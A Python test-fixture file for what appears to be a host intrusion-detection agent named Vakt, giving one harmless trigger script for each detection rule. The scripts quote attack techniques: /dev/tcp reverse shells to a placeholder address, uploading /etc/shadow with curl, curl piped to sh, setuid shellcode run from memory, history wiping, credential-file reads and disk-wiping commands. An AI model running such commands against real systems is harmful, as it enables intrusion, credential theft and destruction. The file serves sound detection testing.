# SPDX-License-Identifier: Apache-2.0
"""For each shipped rule a harmless act that makes it fire: a shell script for a throwaway copy of the
machine, after PRELUDE. A new rule is a new row, or one of CANNOT with the reason."""

from collections import namedtuple

# in_container: in a control group that is named like a container's. preparation: before, and unseen.
# moves: it puts itself into that group.
Act = namedtuple("Act", "rule script in_container preparation moves", defaults=(False, "", False))

# fake PATH...: programs that do nothing. call NAME ARGUMENT...: runs one that does nothing, as NAME.
# dialler PATH: a program that runs `PATH -c 'exec 3<>/dev/tcp/ADDRESS/PORT'`.
# serve ADDRESS PORT: something listens there; the address is the loopback interface's own.
PRELUDE = r"""
fake() { for path; do mkdir -p "$(dirname "$path")"; cp /usr/bin/true "$path"; done; }
call() { name=$1; shift; fake "/usr/local/bin/$name"; "/usr/local/bin/$name" "$@"; }
dialler() { mkdir -p "$(dirname "$1")"; cp /usr/bin/bash "$1"; }
serve() {
  ip addr add "$1" dev lo 2>/dev/null || true
  python3 -c "import socket, sys, time
s = socket.create_server(('$1', $2)); time.sleep(20)" & server=$!
  for i in $(seq 100); do ss -tln | grep -q ":$2 " && break; sleep 0.05; done
}
write() { for path; do mkdir -p "$(dirname "$path")"; : >>"$path"; done; }
"""

ACTS = (
    Act("Vakt demonstration", "/usr/bin/true vakt-demonstration-act"),
    # -- execution
    Act("Interactive shell in a container", r"""
cp /usr/bin/bash /usr/local/bin/runc
script -qec "/usr/local/bin/runc -c 'sh -c true; true'" /dev/null""", True),
    Act("Interpreter given an encoded program", """python3 -c "import base64;exec(base64.b64decode('cGFzcw=='))" """),
    Act("Attack tool run", "call linpeas.sh"),
    Act("Cluster or container client run by hand in a container",
        "fake /usr/local/bin/crictl; script -qec '/usr/local/bin/crictl ps' /dev/null", True),
    Act("Script run from another process's descriptor",
        "echo true >/srv/x; sleep 5 7</srv/x & sh /proc/$!/fd/7; kill $!"),
    Act("Program run that is not part of the image", "call brought-along", True),
    Act("Package manager or compiler run in a container", "dpkg --version", True),
    Act("Tool joins a shell to the network", "bash -c 'exit 0; exec >/dev/tcp/127.0.0.1/9'"),
    Act("Shell started by a network service",
        "cp /usr/bin/bash /usr/local/bin/nginx; /usr/local/bin/nginx -c 'sh -c true; true'"),
    Act("Program run from a world-writable directory", "fake /dev/shm/vakt-e2e; /dev/shm/vakt-e2e",
        preparation="mount -t tmpfs none /dev/shm"),
    # -- persistence
    Act("Write below a binary directory", "write /usr/libexec/x"),
    Act("Write to a place that survives a restart", "write /etc/cron.d/x"),
    Act("Script written by a network service",
        "cp /usr/bin/bash /usr/local/bin/nginx; /usr/local/bin/nginx -c ': >/srv/x.php'"),
    Act("Account created or changed from the command line", "useradd eve"),
    Act("Static pod or kubelet configuration written", "write /etc/kubernetes/manifests/x.yaml"),
    Act("Kernel module file written", "write /usr/lib/modules/x/x.ko"),
    Act("Login configuration or module written", "write /etc/ssh/sshd_config.d/x.conf"),
    Act("Python start-up file written", "write /usr/lib/python3/dist-packages/x.pth"),
    Act("Job scheduled from the command line", "call at now"),
    # -- privilege escalation
    Act("Known exploit of a set-user-id program", "call sudo '-u#-1' id"),
    Act("Shell started out of a program under sudo", r"""
cp /usr/bin/bash /usr/local/bin/sudo; cp /usr/bin/bash /usr/local/bin/vim
/usr/local/bin/sudo -c "/usr/local/bin/vim -c 'sh </dev/null; true'; true" """),
    Act("Capabilities given to a program", "call setcap cap_setuid+ep /srv/x"),
    # -- defense evasion
    Act("Program run from memory", r"""python3 -c "
import os
fd = os.memfd_create('payload', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execve(fd, ['innocent'], {})" """),
    Act("Critical call from code that is in no file", r"""python3 -c "
import ctypes, mmap
# mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; syscall; ret
code = bytes.fromhex('4889f84889f74889d64889ca4d89c20f05c3')
memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
memory.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
setuid = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 5)(address)
setuid(105, 0, 0, 0, 0)" """),
    Act("Deleted program run", r"""fake /srv/copy; python3 -c "
import os
fd = os.open('/srv/copy', os.O_RDONLY)
os.unlink('/srv/copy')
os.execve(fd, ['x'], {})" """),
    Act("Log or shell history emptied",
        "sh -c ': >/root/.bash_history'", preparation="echo x >/root/.bash_history"),
    Act("Security or logging service stopped", "call systemctl stop auditd"),
    Act("Firewall emptied or switched off", "call iptables -F"),
    Act("SELinux, AppArmor or auditing switched off", "call setenforce 0"),
    Act("Shell history disabled", "bash -c 'unset HISTFILE; true'"),
    Act("Timestamp of a system file forged", "touch -d 2020-01-01 /etc/hostname"),
    Act("Program that poses as a kernel thread", "bash -c 'exec -a \"[kworker/0:1]\" true'"),
    Act("Program that poses as a system service", "fake /var/tmp/sshd; /var/tmp/sshd"),
    Act("File opened under a name that was changed meanwhile", r"""python3 -c "
import ctypes, os, threading, time
libc = ctypes.CDLL(None)
os.mkfifo('/srv/secret')
name = ctypes.create_string_buffer(b'/srv/secret')
def lie():
    time.sleep(0.3)  # the other thread waits in open() by then
    name.value = b'/srv/benign'
    os.close(os.open('/srv/secret', os.O_WRONLY))
threading.Thread(target=lie).start()
libc.open(name, os.O_RDONLY)" """),
    Act("Process moved itself into a container's control group",
        'sh -c "echo 0 >$CGROUP/docker-$(printf ab%.0s $(seq 32)).scope/cgroup.procs"', moves=True),
    Act("Hidden program run", "fake /srv/.x; /srv/.x"),
    Act("Program started by naming the dynamic loader",
        "$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-*.so.* 2>/dev/null | head -1) /usr/bin/true"),
    Act("Kernel protection setting opened for writing", ": >>/proc/sys/kernel/randomize_va_space"),
    Act("Log wiped with a secure deletion tool", "call shred -u /var/log/x"),
    Act("File made immutable", "call chattr +i /srv/x"),
    # -- credential access
    Act("Credential file read by an unexpected program",
        "ln -s /etc/shadow /srv/innocent; cat /srv/innocent"),
    Act("Connection to the cloud metadata service",
        "serve 169.254.169.254 80; curl -s -m 1 http://169.254.169.254/ || true; kill $server"),
    Act("Service account token read by hand",
        "cat /run/secrets/kubernetes.io/serviceaccount/token", True, r"""
mkdir -p /run/secrets/kubernetes.io/serviceaccount/..1
echo x >/run/secrets/kubernetes.io/serviceaccount/..1/token
ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
    Act("Credential of the node or the cluster read", "cat /etc/kubernetes/admin.conf",
        preparation="mkdir -p /etc/kubernetes; echo x >/etc/kubernetes/admin.conf"),
    Act("Stored credential of a user read by hand", "cat /root/.aws/credentials",
        preparation="mkdir -p /root/.aws; echo x >/root/.aws/credentials"),
    Act("Search for credentials in files", "find /srv -name id_ed25519"),
    Act("Memory of a process taken", "sleep 5 & python3 -c \"open('/proc/$!/mem')\"; kill $!"),
    Act("Environment of another process read by hand",
        "sleep 5 & cat /proc/$!/environ >/dev/null; kill $!"),
    Act("Packet capture started", "call tcpdump -i any"),
    Act("Connection to etcd by an unexpected program",
        "serve 127.0.0.1 2379; curl -s -m 1 http://127.0.0.1:2379/ || true; kill $server"),
    # -- discovery
    Act("Network service looks around",
        "cp /usr/bin/bash /usr/local/bin/nginx; /usr/local/bin/nginx -c '/usr/bin/id; true'"),
    Act("Network scanner started", "call nmap 127.0.0.1"),
    Act("Search for set-user-id or capable programs", "find /srv -perm -4000"),
    Act("Kubernetes API called by hand from a container",
        "curl -s -m 1 http://127.0.0.1:1/api/v1/secrets || true", True),
    # -- lateral movement
    Act("Remote login or copy tool started in a container", "ssh -p 1 127.0.0.1 || true", True),
    Act("Container connected to a kubelet",
        "serve 127.0.0.1 10250; curl -s -m 1 http://127.0.0.1:10250/ || true; kill $server", True),
    Act("Program other than an SSH client connected to an SSH port",
        "serve 192.0.2.1 22; curl -s -m 1 http://192.0.2.1:22/ || true; kill $server", True),
    Act("Container runtime's socket used from the command line",
        "curl -s --unix-socket /run/no/docker.sock http://x/ || true"),
    # -- collection
    Act("Directory with credentials packed",
        "tar cf /tmp/x.tar /root/.ssh", preparation="mkdir -p /root/.ssh"),
    Act("Keyboard or other input device opened", "cat /dev/input/event9",
        preparation="mkdir -p /dev/input; mount -t tmpfs none /dev/input; : >/dev/input/event9"),
    Act("Tracer attached to a running process", "call strace -f -p 1"),
    Act("Database dumped by hand in a container",
        "fake /usr/local/bin/pg_dump; script -qec /usr/local/bin/pg_dump /dev/null", True),
    # -- command and control
    Act("Download piped to an interpreter", "sh -c 'curl -s -m 1 http://127.0.0.1:1/x | sh'"),
    Act("Shell made a network connection",
        "serve 192.0.2.1 4444; bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'; kill $server"),
    Act("Shell joined itself to a network connection",
        "serve 192.0.2.1 4444; bash -c 'exec 0<>/dev/tcp/192.0.2.1/4444'; kill $server"),
    Act("Shell started on a network connection", """serve 192.0.2.1 4444
python3 -c "import os, socket
peer = socket.create_connection(('192.0.2.1', 4444))
for stream in range(3): os.dup2(peer.fileno(), stream)
os.execv('/bin/sh', ['sh', '-c', ':'])"
kill $server"""),
    Act("Program in a world-writable directory connected to the network",
        "dialler /tmp/x; serve 192.0.2.1 4444; /tmp/x -c 'exec 3<>/dev/tcp/192.0.2.1/4444'; kill $server"),
    Act("Tunnel or proxy tool started", "call chisel client 127.0.0.1:1 R:socks"),
    Act("Download into a place to run it from", "curl -s -o /tmp/x file:///etc/hostname", True),
    Act("Netcat waits for connections", "call nc -lvnp 4444"),
    Act("Connection to a Tor port",
        "serve 127.0.0.1 9050; curl -s -m 1 http://127.0.0.1:9050/ || true; kill $server"),
    # -- exfiltration
    Act("Credential or key handed to an upload tool",
        "curl -s -m 1 -F f=@/etc/shadow http://127.0.0.1:1/ || true"),
    Act("Transfer with a public file-drop or paste site",
        "call wget -qO- https://pastebin.com/raw/x"),
    Act("Cloud storage tool started where it is not expected",
        "fake /tmp/rclone; /tmp/rclone copy /srv x:y"),
    Act("Files copied out of a container through the API", r"""
cp /usr/bin/bash /usr/local/bin/runc
/usr/local/bin/runc -c 'tar cf /dev/null /etc/hostname; true'""", True),
    Act("Name look-up with a very long name", "call dig $(seq -s. 200)"),
    # -- impact
    Act("Cryptocurrency miner started", "call x -o stratum+tcp://192.0.2.1:3333"),
    Act("Disk or file system destroyed from the command line", "call dd if=/dev/zero of=/dev/sda"),
    Act("System directories deleted", "call rm -rf --no-preserve-root /"),
    Act("Backups or snapshots deleted from the command line", "call lvremove -f vg0/snap"),
    Act("Container stops the machine", "call reboot", True),
    Act("Files encrypted one after another from the command line", r"""
echo x >/srv/f
find /srv -name f -exec openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {} -out {}.locked ';' """),
    # -- container escape
    Act("Container touches what leads out of it", ": >>/srv/release_agent", True),
    Act("Container entered the host's namespaces by a tool", "call nsenter -t 1 -m sh", True),
    Act("Container mounts a disk or a kernel file system", "call mount /dev/sda1 /mnt", True),
    Act("Kernel module loaded from an unusual place by a tool", "call insmod x.ko", True),
    Act("Container opened a file by its handle", r"""python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(136)
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
open('/tmp/f', 'w').close()
mount = ctypes.c_int()
assert libc.name_to_handle_at(-100, b'/tmp/f', handle, ctypes.byref(mount), 0) == 0
assert libc.open_by_handle_at(os.open('/tmp', 0), handle, 0) >= 0" """, True),
    Act("Path through a descriptor and out of its directory",
        "sh -c 'exec 7</srv; cat /proc/self/fd/7/../etc/hostname'"),
    Act("Container opened the container runtime's program for writing", "write /srv/runc", True),
    # -- agent tampering
    Act("Vakt's own files opened for writing", "write /etc/vakt/rules/x.yaml"),
    Act("Vakt is being stopped", "call pkill vakt-agent"),
    Act("BPF programs or maps changed from the command line", "call bpftool link detach id 0"),
    Act("Kernel tracing switched or filtered", ": >>/sys/kernel/tracing/tracing_on",
        preparation="mount -t tmpfs none /sys/kernel/tracing"),
    Act("Control group of Vakt frozen, limited or emptied", ': >>"$CGROUP/cgroup.freeze"'),
)

# Rules that no harmless act on one machine makes fire, and why.
CANNOT = {rule: "over flows: its threshold takes hours or peers outside; tests/e2e/flow_rules_test.py" for rule in (
    "Contact with an indicator of compromise", "Port scan or sweep",
    "Program in a container calls outside in even intervals",
    "Large transfer from a container to the outside", "Many name look-ups that look like data",
    "Contact with a mining pool", "Workload listens at a port that it never had",
    "SSH client talks to an unusual port outside", "Connection between segments that are to be apart",
    "First external contact of a workload")}
